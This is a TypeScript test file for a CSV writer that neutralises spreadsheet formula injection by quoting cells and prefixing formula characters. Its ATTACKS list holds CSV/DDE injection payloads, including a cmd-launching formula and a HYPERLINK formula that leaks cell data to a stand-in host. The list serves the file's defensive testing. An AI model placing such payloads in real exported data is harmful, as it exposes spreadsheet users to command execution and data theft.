import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvTable, readCsvCell } from './csv.js';

/** What a spreadsheet run with quotes ignored makes of a written cell: the pieces it cuts at , ; tab or line breaks, trimmed. */
const piecesOf = (written: string) =>
  written
    .slice(1, -1)
    .replace(/""/g, '"')
    .split(/[,;\t\r\n]/)
    .map((p) => p.replace(/^ +/, ''));
/** A piece a spreadsheet runs as a formula: it starts with = + - @ (or fullwidth), a tab or a return. */
const isFormula = (piece: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(piece);

const ATTACKS = [
  "=cmd|' /c calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '+1+cmd|" /c calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  "x;=cmd|' /c calc'!A0",
  'x; =1+1',
  'x;;@SUM(A1)',
  'x,+1',
  'x\t-1',
  'x\n=1',
  'x\r\n=1',
  'x;\t=1',
  "x;'=1",
];

describe('the one CSV writer', () => {
  it('quotes every cell and doubles the quotes inside', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell({ reason: 'x' })).toBe('"{""reason"":""x""}"');
  });

  it('leaves no piece of a cell a spreadsheet may cut out starting a formula, at the start or after ; , tab or a line break', () => {
    for (const attack of ATTACKS) {
      const written = csvCell(attack);
      expect(piecesOf(written).filter(isFormula), `${JSON.stringify(attack)} → ${written}`).toEqual([]);
    }
    expect(csvCell("=cmd|' /c calc'!A0")).toBe(`"'=cmd|' /c calc'!A0"`);
    expect(csvCell("x;=cmd|' /c calc'!A0")).toBe(`"x;'=cmd|' /c calc'!A0"`);
    expect(csvCell('x\t-1')).toBe(`"x\t'-1"`);
  });

  it('holds for any text: random cells of separators, spaces, quotes and formula characters', () => {
    const alphabet = [...',;\t\r\n \'"=+-@ab1\uFF1D\uFF0B\uFF0D\uFF20'];
    let seed = 7;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648;
    for (let i = 0; i < 3000; i++) {
      const text = Array.from({ length: 1 + Math.floor(next() * 12) }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
      const written = csvCell(text);
      expect(piecesOf(written).filter(isFormula), JSON.stringify(text)).toEqual([]);
      // What the writer wrote, a CSV reader and readCsvCell give back exactly.
      const read = parse(`${written}\r\n`)[0]?.[0] ?? '';
      expect(readCsvCell(read), JSON.stringify(text)).toBe(text);
    }
  });

  it('gives back text that truly starts with a formula character, or with the mark itself', () => {
    for (const text of ['-20% sale', "'-20% sale", "''=x", 'Great;-20% off', "a;'b", "it's", '=', "'"]) {
      const read = parse(csvTable(['title'], [[text]]))[1]?.[0] ?? '';
      expect(readCsvCell(read), text).toBe(text);
    }
    // Written by hand or saved by a spreadsheet: a ' before a formula character is the text mark.
    expect(readCsvCell("'-20% sale")).toBe('-20% sale');
    expect(readCsvCell("it's 'quoted'")).toBe("it's 'quoted'");
  });

  it('writes the header bare, then one CRLF line a row, and refuses a column name that is not plain', () => {
    expect(csvTable(['id', 'stock_now'], [['1', '-5']])).toBe('id,stock_now\r\n"1","\'-5"\r\n');
    expect(() => csvTable(['=bad'], [])).toThrow(/plain lowercase/);
  });
});
